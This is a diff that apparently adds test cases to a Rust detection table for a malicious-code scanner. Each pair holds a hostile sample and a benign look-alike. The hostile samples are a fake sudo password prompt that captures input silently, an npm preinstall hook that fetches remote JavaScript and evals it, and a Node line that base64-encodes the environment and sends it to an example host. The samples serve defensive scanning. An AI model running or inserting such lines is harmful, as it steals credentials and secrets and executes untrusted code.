@@ -477,6 +477,45 @@ const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
         Some(Bl),
     ),
     (
+        // An imitation of sudo's prompt read silently.
+        "credential_harvesting.fake_password_prompt",
+        Shell,
+        "sudo() {\n  printf '[sudo] password for %s: ' \"$USER\"; read -rs _p; echo\n}\n",
+        Some(Bl),
+    ),
+    (
+        "credential_harvesting.fake_password_prompt",
+        Shell,
+        "printf '[sudo] password prompts mean sudo needs you\\n'\n",
+        None,
+    ),
+    (
+        // A fetched text handed to eval as the next step of a promise chain.
+        "remote_exec.fetch_then_exec",
+        Data,
+        "\"preinstall\": \"node -e \\\"fetch('https://m.example/pre.js').then(r=>r.text()).then(eval)\\\"\"\n",
+        Some(Bl),
+    ),
+    (
+        "remote_exec.fetch_then_exec",
+        Data,
+        "\"preinstall\": \"node -e \\\"fetch('https://m.example/v.json').then(r=>r.json()).then(console.log)\\\"\"\n",
+        None,
+    ),
+    (
+        // A GET whose query is built from the environment sends it.
+        "exfiltration.secret_upload",
+        Code,
+        "require('https').get('https://b.example/i?e='+Buffer.from(JSON.stringify(process.env)).toString('base64'))\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.secret_upload",
+        Code,
+        "require('https').get('https://registry.example/pkg?v=1', (r) => r.pipe(process.stdout))\n",
+        None,
+    ),
+    (
         // The same table in a scanner that reports only on the terminal.
         "exfiltration.secret_files_sent",
         Code,
